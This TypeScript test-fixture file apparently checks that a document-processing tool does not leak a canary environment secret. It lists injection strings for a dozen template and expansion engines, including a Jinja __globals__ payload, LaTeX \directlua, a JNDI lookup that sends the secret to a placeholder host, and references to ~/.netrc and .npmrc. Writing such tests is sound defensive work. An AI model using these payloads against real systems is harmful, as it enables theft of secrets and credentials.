import type { HostileCase } from '../hostile-case.ts';
import { casesOf } from '../write-case.ts';

const { printed } = casesOf('secrets');
const NAME = 'BRIEFPRESS_CANARY_SECRET';

/** Spellings under which one tool or another puts a variable of the environment. */
const spellings: Record<string, string> = {
  shell: `$${NAME} \${${NAME}} \`echo $${NAME}\``,
  windows: `%${NAME}% !${NAME}!`,
  node: `process.env.${NAME} <%= process.env.${NAME} %>`,
  liquid: `{{ env.${NAME} }} {{ site.env.${NAME} }} {{ process.env.${NAME} }}`,
  jinja: `{{ self.__init__.__globals__.os.environ['${NAME}'] }} {{ config.items() }}`,
  handlebars: `{{#with process}}{{env.${NAME}}}{{/with}} {{{env.${NAME}}}}`,
  actions: `\${{ secrets.${NAME} }} \${{ env.${NAME} }}`,
  azure: `$(${NAME}) $[variables.${NAME}]`,
  latex: `\\getenv{${NAME}} \\directlua{tex.print(os.getenv("${NAME}"))}`,
  log4j: `\${env:${NAME}} \${jndi:ldap://CANARY-TCP/\${env:${NAME}}}`,
  make: `$(shell echo $${NAME})`,
  hugo: `{{ getenv "${NAME}" }} {{ .Site.Params }}`,
};

/** What would give a variable, a path or a user away. */
export const secrets: HostileCase[] = [
  ...Object.entries(spellings).map(([name, text]) =>
    printed(name, `Before. ${text} After.`, {
      keys: [`subtitle: ${JSON.stringify(text)}`, `handling: ${JSON.stringify(text)}`],
      prints: ['After.'],
    }),
  ),
  printed('home-of-user', 'See ~/.netrc, $HOME/.npmrc, %USERPROFILE%.'),
  printed('source-with-note', 'A claim.[@x]', {
    keys: ['bibliography: x.bib'],
    files: {
      'x.bib': `@book{x, title = {A book}, year = 2001, howpublished = {\\getenv{${NAME}}}}`,
    },
  }),
];
